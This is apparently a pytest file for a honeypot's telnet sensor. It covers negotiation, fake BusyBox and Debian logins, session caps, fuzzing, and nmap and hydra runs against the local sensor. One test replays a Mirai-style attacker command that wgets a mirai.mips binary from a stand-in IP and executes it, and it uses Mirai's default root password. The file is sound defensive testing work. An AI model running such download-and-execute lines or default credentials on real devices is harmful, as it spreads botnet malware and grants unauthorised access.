"""The telnet sensor: negotiation, login dialogue, the BusyBox and bash shells, caps, real clients."""

from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from honeyguard.config import Limits, Listener, LoginCredential, SensorSettings, SshSettings
from honeyguard.model import Event
from honeyguard.sensor.personas import BUILTIN_DIR
from honeyguard.sensor.services.telnet import find_persona, state_for
from honeyguard.sensor.telnetd.lines import LineReader
from honeyguard.sensor.telnetd.options import TelnetStream
from honeyguard.sensor.telnetd.session import TelnetConnection
from tests.conftest import SensorThread, free_port, tool
from tests.sensor.wire_helpers import ErrorLog, PtyClient, RawClient, drive, fake_context

BUSYBOX_OPENING = b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03"  # DO ECHO, DO NAWS, WILL ECHO, WILL SGA
NETKIT_OPENING = b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"  # DO TTYPE, TSPEED, XDISPLOC, NEW-ENVIRON
MIRAI_PASSWORD = "xc3511"


def only_listed(*pairs: tuple[str, str]) -> SshSettings:
    return SshSettings(accept_after_attempts=0, credentials=[LoginCredential(username=u, password=p) for u, p in pairs])


def body(event: Event) -> dict[str, object]:
    return {name: getattr(event.body, name) for name in event.body.__struct_fields__}


def closed_reasons(events: list[Event]) -> list[str]:
    return [str(body(e)["reason"]) for e in events if e.kind == "session.closed"]


# -- against the running sensor ----------------------------------------------------------------

def test_busybox_opening_is_busybox_telnetd(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["telnet"])
    client = RawClient(sensor.port("telnet"))
    first = client.read_until(b"login: ")
    client.close()
    assert first == BUSYBOX_OPENING + b"\r\r\nRT-N300 login: "


def test_mirai_style_session_is_recorded(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["telnet"], ssh=only_listed(("root", MIRAI_PASSWORD)))
    client = RawClient(sensor.port("telnet"), answer_options=True)
    motd = client.telnet_login("root", MIRAI_PASSWORD)
    assert b"BusyBox v1.24.1" in motd and b"built-in shell (ash)" in motd
    lines = ["enable", "system", "shell", "sh", "/bin/busybox ECCHI",
             "cd /tmp; /bin/busybox wget http://203.0.113.50/bins/mirai.mips; chmod 777 mirai.mips; ./mirai.mips",
             "cat /proc/mounts"]
    screens = []
    for line in lines:
        client.send(line.encode() + b"\r\n")
        screens.append(client.read_until(b"\r\n# "))
    client.send(b"exit\r\n")
    client.read_to_close()
    client.close()
    assert b"-sh: enable: not found" in screens[0]
    assert b"-sh: shell: not found" in screens[2]
    assert b"ECCHI: applet not found" in screens[4]
    assert b"Connecting to 203.0.113.50 (203.0.113.50:80)" in screens[5]
    assert b"/dev/root / squashfs" in screens[6]
    events = sensor.sink.wait_for(lambda evs: any(e.kind == "session.closed" for e in evs))
    assert {e.protocol for e in events} == {"telnet"}
    logins = [body(e) for e in events if e.kind == "ssh.login"]
    assert logins == [{"username": "root", "method": "password", "password": MIRAI_PASSWORD, "key_type": None,
                       "key_fingerprint": None, "success": True}]
    commands = [body(e) for e in events if e.kind == "ssh.command"]
    assert [c["line"] for c in commands] == [*lines, "exit"]
    assert [c["handled"] for c in commands[:3]] == [False, False, False]
    downloads = [body(e) for e in events if e.kind == "download"]
    assert [d["url"] for d in downloads] == ["http://203.0.113.50/bins/mirai.mips"]
    assert closed_reasons(events) == ["client-closed"]


def test_failed_logins_then_login_hangs_up(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["telnet"], ssh=only_listed(("root", "not-guessed")))
    client = RawClient(sensor.port("telnet"), answer_options=True)
    for password in ("admin", "1234", "default"):
        client.read_until(b"login: ")
        client.send(b"admin\r\n")
        client.read_until(b"Password: ")
        client.send(password.encode() + b"\r\n")
        assert b"Login incorrect" in client.read_until(b"Login incorrect\r\n")
    client.read_to_close()
    client.close()
    events = sensor.sink.wait_for(lambda evs: any(e.kind == "session.closed" for e in evs))
    assert [(body(e)["password"], body(e)["success"]) for e in events if e.kind == "ssh.login"] == [
        ("admin", False), ("1234", False), ("default", False)]
    assert closed_reasons(events) == ["server-closed"]


def test_accept_after_attempts_counts_across_connections(make_sensor) -> None:  # type: ignore[no-untyped-def]
    """Bots try one password a connection: the policy counts failures per source address."""
    sensor = make_sensor(["telnet"], ssh=SshSettings(accept_after_attempts=2))
    for password in ("one", "two"):
        client = RawClient(sensor.port("telnet"))
        client.read_until(b"login: ")
        client.send(b"root\r\n" + password.encode() + b"\r\n")
        client.read_until(b"Login incorrect")
        client.close()
    client = RawClient(sensor.port("telnet"))
    assert b"# " in client.telnet_login("root", "three")
    client.close()
    events = sensor.sink.wait_for(lambda evs: len([e for e in evs if e.kind == "session.closed"]) == 3)
    assert [(body(e)["password"], body(e)["success"]) for e in events if e.kind == "ssh.login"] == [
        ("one", False), ("two", False), ("three", True)]


def test_negotiation_junk_is_answered_and_stripped(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["telnet"], ssh=only_listed(("root", "pw")))
    client = RawClient(sensor.port("telnet"))
    client.read_until(b"login: ")
    junk = (b"\xff\xfb\x18"  # WILL TTYPE: accepted
            b"\xff\xfa\x18\x00XTERM\xff\xf0"  # SB TTYPE IS XTERM SE
            b"\xff\xfd\x63"  # DO an unknown option: refused
            b"\xff\xf6"  # AYT
            b"\xff\xfa\x1f" + b"\x00" * 5000 + b"\xff\xf0"  # an oversized SB
            b"ro\xff\xf1ot\xff\xf2\r\x00")  # NOP and DM inside the user name
    client.send(junk)
    echoed = client.read_until(b"Password: ")
    assert b"\xff\xfd\x18" in echoed and b"\xff\xfc\x63" in echoed and b"[Yes]" in echoed
    client.send(b"pw\r\n")
    client.read_until(b"# ")
    client.send(b"echo hi\r\n")
    assert b"hi\r\n" in client.read_until(b"\r\n# ")
    client.close()
    events = sensor.sink.wait_for(lambda evs: any(e.kind == "session.closed" for e in evs))
    assert [body(e)["username"] for e in events if e.kind == "ssh.login"] == ["root"]


def test_netkit_waits_for_answers_then_shows_issue(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["telnet"], personas={"telnet": "debian-telnetd"})
    client = RawClient(sensor.port("telnet"))
    assert client.read_until(NETKIT_OPENING) == NETKIT_OPENING
    client.send(b"\xff\xfb\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27")  # WILL TTYPE, WONT the rest
    rest = client.read_until(b"login: ")
    client.close()
    assert rest.startswith(b"\xff\xfa\x18\x01\xff\xf0")  # SB TTYPE SEND: only what the client agreed to
    assert rest.endswith(b"Debian GNU/Linux 12\r\nbackup-01 login: ")


def test_real_telnet_client_reaches_bash(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["telnet"], personas={"telnet": "debian-telnetd"},
                         ssh=only_listed(("operator", "backup2019")))
    client = PtyClient([tool("telnet"), "127.0.0.1", str(sensor.port("telnet"))])
    client.expect(b"backup-01 login: ")
    client.type("operator\r")
    client.expect(b"Password: ")
    client.type("backup2019\r")
    assert b"Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY" in client.expect(b"operator@backup-01:~$ ")
    client.type("uname -a; id\r")
    screen = client.expect(b"operator@backup-01:~$ ")
    assert b"Linux backup-01 6.1.0-18-amd64" in screen and b"uid=1000(operator)" in screen
    client.type("exit\r")
    client.expect(b"logout")
    client.finish()
    events = sensor.sink.wait_for(lambda evs: any(e.kind == "session.closed" for e in evs))
    assert [body(e)["success"] for e in events if e.kind == "ssh.login"] == [True]
    assert [body(e)["line"] for e in events if e.kind == "ssh.command"] == ["uname -a; id", "exit"]


@pytest.mark.parametrize(("persona", "product"), [("busybox-router", "BusyBox telnetd"),
                                                  ("debian-telnetd", "Linux telnetd")])
def test_nmap_names_the_telnetd(make_sensor, persona: str, product: str) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["telnet"], personas={"telnet": persona})
    port = sensor.port("telnet")
    result = subprocess.run([tool("nmap"), "-sT", "-Pn", "-sV", "-p", str(port), "127.0.0.1"],
                            capture_output=True, text=True, timeout=180)
    line = next((ln for ln in result.stdout.splitlines() if ln.startswith(f"{port}/tcp")), "")
    assert re.search(rf"open\s+telnet\s+{re.escape(product)}", line), result.stdout


def test_hydra_attempts_are_recorded(tmp_path: Path) -> None:
    """hydra against a device whose login gives one try a connection (its telnet module loses its
    place when a server re-prompts in the same connection, and now and then skips a pair anyway:
    the right password is listed twice so that the test does not hinge on that race)."""
    personas = tmp_path / "personas"
    personas.mkdir()
    text = (BUILTIN_DIR / "busybox-router.yaml").read_text(encoding="utf-8")
    (personas / "one-try.yaml").write_text(text.replace("id: busybox-router", "id: one-try")
                                           .replace("max_attempts: 3", "max_attempts: 1"), encoding="utf-8")
    port = free_port()
    settings = SensorSettings(listeners=[Listener(service="telnet", port=port, persona="one-try")],
                              persona_dirs=[str(personas)], ssh=only_listed(("root", MIRAI_PASSWORD)))
    sensor = SensorThread(settings, tmp_path / "data").start()
    try:
        words = ["123456", "admin", "password", MIRAI_PASSWORD, "default", MIRAI_PASSWORD]
        (tmp_path / "words").write_text("\n".join(words) + "\n")
        result = subprocess.run([tool("hydra"), "-l", "root", "-P", str(tmp_path / "words"), "-t", "3", "-I", "-f",
                                 f"telnet://127.0.0.1:{port}"], capture_output=True, text=True, timeout=240)
        assert "1 valid password found" in result.stdout, result.stdout + result.stderr
        events = sensor.sink.wait_for(lambda evs: any(e.kind == "ssh.login" and body(e)["success"] for e in evs))
        logins = [body(e) for e in events if e.kind == "ssh.login"]
        # -f stops hydra at its first hit: how many of its parallel tries reached us first varies
        assert len(logins) >= 2 and {str(x["password"]) for x in logins} <= set(words)
        assert {x["password"] for x in logins if x["success"]} == {MIRAI_PASSWORD}
        client = RawClient(port)  # and the sensor still answers
        assert client.read_until(b"login: ").endswith(b"RT-N300 login: ")
        client.close()
    finally:
        sensor.stop()


# -- caps ------------------------------------------------------------------------------------------

def test_command_cap_closes_the_session(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["telnet"], ssh=only_listed(("root", "pw")), limits=Limits(max_commands=3))
    client = RawClient(sensor.port("telnet"))
    client.telnet_login("root", "pw")
    client.send(b"id\r\nid\r\nid\r\nid\r\nid\r\n")
    screen = client.read_to_close()
    client.close()
    assert screen.count(b"uid=0(root)") == 3
    events = sensor.sink.wait_for(lambda evs: any(e.kind == "session.closed" for e in evs))
    assert len([e for e in events if e.kind == "ssh.command"]) == 3
    assert closed_reasons(events) == ["cap-commands"]


def test_line_cap_and_idle_timeout(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["telnet"], limits=Limits(max_buffer_bytes=1024, idle_timeout=0.5))
    long_line = RawClient(sensor.port("telnet"))
    long_line.read_until(b"login: ")
    long_line.send(b"A" * 5000)
    long_line.read_to_close()
    idle = RawClient(sensor.port("telnet"))
    idle.read_until(b"login: ")
    idle.read_to_close()
    events = sensor.sink.wait_for(lambda evs: len(closed_reasons(evs)) == 2)
    assert sorted(closed_reasons(events)) == ["cap-bytes", "idle-timeout"]


def test_session_timeout_ends_a_busy_session(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["telnet"], limits=Limits(session_timeout=1.0, idle_timeout=30))
    client = RawClient(sensor.port("telnet"))
    client.read_until(b"login: ")
    client.send(b"ro")  # busy, never idle long, but the session's time runs out
    client.read_to_close()
    client.close()
    events = sensor.sink.wait_for(lambda evs: len(closed_reasons(evs)) == 1)
    assert closed_reasons(events) == ["session-timeout"]


# -- properties: any bytes, cut anywhere -------------------------------------------------------

telnet_bytes = st.lists(st.one_of(
    st.binary(max_size=64),
    st.sampled_from([b"\xff", b"\xff\xff", b"\xff\xfd\x01", b"\xff\xfb\x18", b"\xff\xfa", b"\xff\xf0", b"\xff\xf4",
                     b"\xff\xfe\x03", b"\xff\xfc\x1f", b"\r", b"\r\x00", b"\r\n", b"\x7f", b"\x03", b"\x04",
                     b"root\r\n", b"pw\r\n", b"\x00", b"/bin/busybox X\r\n", b"wget http://a/b\r\n"]),
), max_size=40)


@given(telnet_bytes, st.integers(min_value=1, max_value=7))
@settings(max_examples=300, deadline=None)
def test_stream_is_the_same_whatever_the_cuts(pieces: list[bytes], cut: int) -> None:
    data = b"".join(pieces)
    whole, chunked = TelnetStream(offer={1, 3}, accept={24, 31}), TelnetStream(offer={1, 3}, accept={24, 31})
    expected = whole.feed(data)
    got = b"".join(chunked.feed(data[i:i + cut]) for i in range(0, len(data), cut))
    assert got == expected
    assert chunked.take_replies() == whole.take_replies()


@given(st.binary(max_size=300).filter(lambda b: b"\xff" not in b))
def test_escaped_data_comes_back_unchanged(data: bytes) -> None:
    escaped = data.replace(b"\xff", b"\xff\xff") + b"\xff\xff"
    assert TelnetStream().feed(escaped) == data + b"\xff"


@given(st.binary(max_size=2000))
def test_line_reader_never_holds_more_than_its_cap(data: bytes) -> None:
    reader = LineReader(max_line=100)
    reader.feed(data)
    while True:
        item, _ = reader.next()
        if item is None:
            break
        assert len(item[1]) <= 100 * 3  # decoded with replacement characters
    assert reader.pending_line <= 100


_STATES = {}


def _state(persona: str):  # type: ignore[no-untyped-def]
    if persona not in _STATES:
        ctx, _ = fake_context(Limits())
        _STATES[persona] = find_persona(persona, ctx)
    return _STATES[persona]


@given(telnet_bytes, st.sampled_from(["busybox-router", "debian-telnetd"]))
@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_session_survives_any_bytes(pieces: list[bytes], persona: str) -> None:
    limits = Limits(max_buffer_bytes=256, max_commands=5)
    ctx, sink = fake_context(limits, SshSettings(accept_after_attempts=1))  # any name gets in at the 2nd try
    state = state_for(Listener(service="telnet", port=23, persona=persona), ctx, _state(persona))
    with ErrorLog() as errors:
        transport = drive(lambda: TelnetConnection(state), pieces)
    assert transport.closed or transport.written
    assert not errors.records, "a connection failed"
    assert len(closed_reasons(sink.events())) == 1
    assert ctx.gate.active == 0
